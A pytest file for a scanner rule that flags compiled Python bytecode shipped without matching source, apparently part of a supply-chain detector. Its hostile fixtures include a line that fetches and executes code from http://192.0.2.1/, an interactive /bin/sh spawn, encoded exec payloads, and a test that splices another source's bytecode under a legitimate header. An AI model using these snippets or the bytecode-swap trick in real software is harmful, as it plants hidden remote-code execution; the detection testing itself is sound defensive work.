"""Compiled Python with and without its source."""

from __future__ import annotations

import py_compile
from typing import TYPE_CHECKING

import pytest

from tests.checks.examples import outcomes

if TYPE_CHECKING:
    from pathlib import Path

RULE = "artifact/python-bytecode"


def compiled(directory: Path, mode: py_compile.PycInvalidationMode | None = None) -> Path:
    source = directory / "helper.py"
    source.write_text("x = 1\n")
    target = directory / "helper.pyc"
    py_compile.compile(str(source), str(target), invalidation_mode=mode)
    return target


def positive(directory: Path) -> Path:
    target = compiled(directory)
    (directory / "helper.py").unlink()
    return target


def benign(directory: Path) -> Path:
    return compiled(directory)


def messages(path: Path) -> list[str]:
    return [f.message for f in outcomes(path) if f.rule == RULE]


def alone(directory: Path, text: str) -> list[tuple[str, str]]:
    source = directory / "helper.py"
    source.write_text(text)
    py_compile.compile(str(source), str(directory / "helper.pyc"))
    source.unlink()
    return [(f.severity.name, f.message) for f in outcomes(directory / "helper.pyc") if f.rule == RULE]


def test_alone_and_harmless(tmp_path: Path) -> None:
    ((severity, message),) = alone(tmp_path, "import math\nclass A:\n    def f(self): return math.pi\n")
    assert (severity, "nobody reviews" in message) == ("MEDIUM", True)


def test_alone_and_acting(tmp_path: Path) -> None:
    ((severity, message),) = alone(tmp_path, "import subprocess\nsubprocess.run(['git', 'status'])\n")
    assert (severity, "subprocess.run" in message) == ("MEDIUM", True)


@pytest.mark.parametrize(
    "text",
    [
        "import os\nos.system('id')\n",
        "import base64\nexec(base64.b64decode('cGFzcw=='))\n",
        "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n",
        "from urllib.request import urlopen\nexec(urlopen('http://192.0.2.1/').read())\n",
        "class A:\n    import os\n    os.popen('id')\n",
        "import subprocess\nsubprocess.Popen(['/bin/sh', '-i'])\n",
    ],
)
def test_alone_and_hostile(tmp_path: Path, text: str) -> None:
    assert [severity for severity, _ in alone(tmp_path, text)] == ["HIGH"]


def test_what_functions_do_is_not_done_on_import(tmp_path: Path) -> None:
    assert [s for s, _ in alone(tmp_path, "import os\ndef f():\n    os.system('id')\n")] == ["MEDIUM"]


def test_bytecode_of_another_source_with_the_same_length_and_time(tmp_path: Path) -> None:
    target = compiled(tmp_path)
    other = tmp_path / "other.py"
    other.write_text("import os; os.system('id')\n")
    py_compile.compile(str(other), str(other.with_suffix(".pyc")))
    other.unlink()
    target.write_bytes(target.read_bytes()[:16] + other.with_suffix(".pyc").read_bytes()[16:])
    found = [f for f in outcomes(target) if f.rule == RULE]
    assert {f.severity.name for f in found} == {"HIGH"}
    assert any("system" in f.evidence and "not compiled from" in f.message for f in found)


def test_private_and_wide_names_are_the_sources_own(tmp_path: Path) -> None:
    text = (
        "class A:\n    def f(self):\n        self.__x = self.\N{MATHEMATICAL BOLD SMALL A}\n        assert self.__x\n"
    )
    (tmp_path / "helper.py").write_text(text, encoding="utf-8")
    py_compile.compile(str(tmp_path / "helper.py"), str(tmp_path / "helper.pyc"))
    assert messages(tmp_path / "helper.pyc") == []


def test_source_of_another_length(tmp_path: Path) -> None:
    target = compiled(tmp_path)
    (tmp_path / "helper.py").write_text("y = 1234\n")
    assert "not compiled from" in messages(target)[0]


def test_bytecode_that_is_never_compared(tmp_path: Path) -> None:
    target = compiled(tmp_path, py_compile.PycInvalidationMode.UNCHECKED_HASH)
    assert "not to compare" in messages(target)[0]
    assert messages(compiled(tmp_path, py_compile.PycInvalidationMode.CHECKED_HASH)) == []
